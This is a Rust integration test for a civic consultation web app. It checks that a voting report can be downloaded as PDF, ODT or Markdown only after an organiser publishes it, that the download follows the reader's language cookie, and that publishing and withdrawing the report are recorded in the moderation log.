async fn the_published_report_is_everyones_to_download(t: TestApp) {
    let ids = proposals(&t).await;
    let orga = role(&t, "orga", Role::Organiser).await;
    voted_round(&t, &orga, &ids).await;
    let citizen = role(&t, "lectrice", Role::Citizen).await;
    // Not published: no public file, and the public page offers none.
    for format in ["pdf", "odt", "md"] {
        let r = t
            .get(&format!("/report/download?format={format}"), None)
            .await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "[{}] {format}", t.backend);
    }
    let page = t.get("/report", None).await;
    assert!(!page.body.contains("/report/download"), "[{}]", t.backend);
    let r = t.call("report_html", &[], None).await;
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&r.body).unwrap()["published_at"],
        serde_json::Value::Null
    );
    // A bad value is refused and changes nothing.
    let r = t
        .call("publish_report", &[("on", "oui")], Some(&orga))
        .await;
    assert_eq!(
        r.status,
        StatusCode::BAD_REQUEST,
        "[{}] {}",
        t.backend,
        r.body
    );
    assert_eq!(
        t.get("/report/download?format=md", None).await.status,
        StatusCode::NOT_FOUND
    );
    // Published: anyone downloads it, signed in or not; the page links the files; it is logged.
    ok(&t, "publish_report", &[("on", "true")], Some(&orga)).await;
    for cookie in [None, Some(citizen.as_str())] {
        for format in ["pdf", "odt", "md"] {
            let r = t
                .get(&format!("/report/download?format={format}"), cookie)
                .await;
            assert_eq!(r.status, StatusCode::OK, "[{}] {format}", t.backend);
            let cd = r
                .headers
                .get("content-disposition")
                .unwrap()
                .to_str()
                .unwrap();
            assert!(cd.ends_with(&format!(".{format}\"")), "{cd}");
        }
    }
    let md = t.get("/report/download?format=md", None).await.body;
    assert!(
        md.contains("Former les enseignants"),
        "[{}] {md}",
        t.backend
    );
    // In the reader's language: the report's own words in English, what people wrote as
    // written (no session, only the language cookie).
    let english = Some("aucune; lang=en");
    let en = t.get("/report/download?format=md", english).await.body;
    for want in [
        "## Contents",
        "## Annex: results of the voting rounds",
        "Former les enseignants",
    ] {
        assert!(en.contains(want), "[{}] {want}: {en}", t.backend);
    }
    assert!(!en.contains("Sommaire"), "[{}] {en}", t.backend);
    let page = t.get("/report", english).await.body;
    assert!(page.contains(">Contents</h2>"), "[{}] {page}", t.backend);
    assert_eq!(
        t.get("/report/download?format=docx", None).await.status,
        StatusCode::BAD_REQUEST
    );
    let page = t.get("/report", None).await;
    assert!(
        page.body.contains("href=\"/report/download?format=pdf\""),
        "[{}]",
        t.backend
    );
    assert_eq!(
        scalar(
            &t,
            "SELECT COUNT(*) FROM moderation_log WHERE action = 'report_publish'"
        )
        .await,
        1
    );
    // Withdrawn: the files are private again.
    ok(&t, "publish_report", &[("on", "false")], Some(&orga)).await;
    assert_eq!(
        t.get("/report/download?format=md", None).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        scalar(
            &t,
            "SELECT COUNT(*) FROM moderation_log WHERE action = 'report_unpublish'"
        )
        .await,
        1
    );
}
